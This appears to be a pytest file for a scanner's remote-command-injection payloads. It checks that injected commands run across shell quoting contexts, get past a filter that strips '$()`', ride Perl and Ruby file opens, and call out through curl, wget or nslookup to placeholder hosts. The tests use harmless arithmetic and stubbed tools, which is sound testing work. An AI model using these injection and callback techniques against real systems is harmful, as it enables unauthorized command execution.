"""The payloads of rce, read by a real shell in each quoting context: what is printed, and that the wait is run once."""

import shutil
import sqlite3
import subprocess
from contextlib import closing

import pytest
from tests.absent import require

from gatecrash.core.testing.payloads.rce import (
    AND,
    CALLING,
    CALLING_WINDOWS,
    IN_FEW_SIGNS,
    LINE,
    OPENED,
    OPENED_BEFORE,
    PIPE,
    SEQUENCE,
    Numbers,
    expected,
    fill,
    fill_call,
    is_fetched,
    unended,
    ways_of,
)

NUMBERS = Numbers("ab", 12, 34, "cd")


@pytest.mark.parametrize("command", ["{} @", "{} '@'", '{} "@"'], ids=["bare", "single", "double"])
@pytest.mark.parametrize("way", [SEQUENCE, unended(SEQUENCE), PIPE, AND])
def test_one_payload_serves_three_contexts_and_waits_once(way, command):
    script = 'sleep() { echo "slept $1" >&2; }\n' + command.format("true").replace("@", fill(way, "tea", NUMBERS, 2))
    done = subprocess.run(["/bin/sh", "-c", script], capture_output=True, text=True, check=False, timeout=60)
    assert done.stderr.count("slept 2") == 1
    assert expected(way, NUMBERS) == ("408" if way is PIPE else "ab408cd")
    assert done.stdout.count(expected(way, NUMBERS)) == 1


@pytest.mark.parametrize("way", [SEQUENCE, IN_FEW_SIGNS])
@pytest.mark.parametrize("statement", ["SET a = {} WHERE id = 1", "SET a = '{}' WHERE id = 1"], ids=["bare", "single"])
def test_what_changes_something_ends_no_statement_before_its_condition(way, statement):
    with closing(sqlite3.connect(":memory:")) as database:
        database.executescript("CREATE TABLE t (id, a); INSERT INTO t VALUES (1, 7), (2, 8)")
        with pytest.raises(sqlite3.OperationalError):
            database.executescript(f"UPDATE t {statement.format(fill(unended(way), '5', NUMBERS, 0))}")
        assert database.execute("SELECT a FROM t").fetchall() == [(7,), (8,)]


def test_a_filter_that_takes_dollar_signs_and_brackets_out_leaves_one_way():
    kept = fill(PIPE, "tea", NUMBERS, 0).translate(dict.fromkeys(map(ord, "$()`")))
    done = subprocess.run(["/bin/sh", "-c", "echo " + kept], capture_output=True, text=True, check=False, timeout=60)
    assert done.stdout == "408\n"


def test_a_tame_task_is_not_computed():
    payload = fill(SEQUENCE, "tea", NUMBERS, 0, tame=True)
    done = subprocess.run(["/bin/sh", "-c", "true " + payload], capture_output=True, text=True, check=False, timeout=60)
    assert "12*34" in done.stdout
    assert "408" not in done.stdout


@pytest.mark.parametrize(
    "command",
    ["true {}", "true '{}'", 'true "{}"', "(true {}) >/dev/null 2>&1 &"],
    ids=["bare", "single", "double", "brackets"],
)
@pytest.mark.parametrize("missing", ["", "curl", "curl wget"])
def test_an_address_is_asked_for_with_the_product_behind_it(command, missing, tmp_path):
    """The first tool that is there asks; the shell's own functions stand for them, so that nothing is sent."""
    called = tmp_path / "called"
    tools = "".join(
        f"{tool}() {{ {'return 127' if tool in missing.split() else f'echo {tool} $* >> {called}'}; }}\n"
        for tool in ("curl", "wget", "nslookup")
    )
    payload = fill_call(CALLING, "tea", 12, 34, "http://192.0.2.1/name", "name.oob.example.com")
    subprocess.run(
        ["/bin/sh", "-c", f"{tools}{command.replace('{}', payload)}\nuntil test -s {called}; do :; done"],
        capture_output=True,
        check=False,
        timeout=60,
    )
    (line,) = set(called.read_text().splitlines())
    asked = {"": "curl -sm5 http://192.0.2.1/name/408", "curl": "wget -qT5 -O- http://192.0.2.1/name/408"}
    assert line == asked.get(missing, "nslookup 408.name.oob.example.com")


def test_the_product_is_nowhere_in_what_is_sent():
    for way in (CALLING, CALLING_WINDOWS):
        assert "408" not in fill_call(way, "tea", 12, 34, "http://192.0.2.1/name", "name.oob.example.com")


def test_perl_opens_a_command_in_the_place_of_a_file():
    require(shutil.which("perl"), "perl is absent")
    name = fill(OPENED_BEFORE, "notes.txt", NUMBERS, 0)
    for mode, shown in (
        ("open(F, $ARGV[0])", "ab408cd\n"),
        ('open(F, "texts/$ARGV[0]")', "ab408cd\n"),
        ("open(F, '<', $ARGV[0])", ""),
    ):
        done = subprocess.run(
            ["perl", "-e", f"{mode}; print <F>", name], capture_output=True, text=True, check=False, timeout=60
        )
        assert done.stdout == shown


def test_in_ruby_a_line_of_its_own_is_one_way_more():
    assert ways_of(number=True, lines=True) == (*ways_of(number=True, lines=False), LINE)
    assert LINE not in ways_of(number=False, lines=False)


def test_what_stands_behind_a_pipe_is_a_whole_command():
    """As Ruby's open hands it to a shell: all behind the first sign."""
    command = fill(OPENED, "notes.txt", NUMBERS, 0)
    assert command.startswith("|")
    done = subprocess.run(["/bin/sh", "-c", command[1:]], capture_output=True, text=True, check=True, timeout=60)
    assert done.stdout == "ab408cd\n"


@pytest.mark.parametrize(
    ("value", "fetched"),
    [
        ("http://shop.example/feed", True),
        ("HTTPS://shop.example", True),
        ("ftp://a/b", True),
        ("shop.example/http://", False),
    ],
)
def test_what_is_fetched_begins_with_its_scheme(value: str, fetched: bool) -> None:
    assert is_fetched(value) is fetched
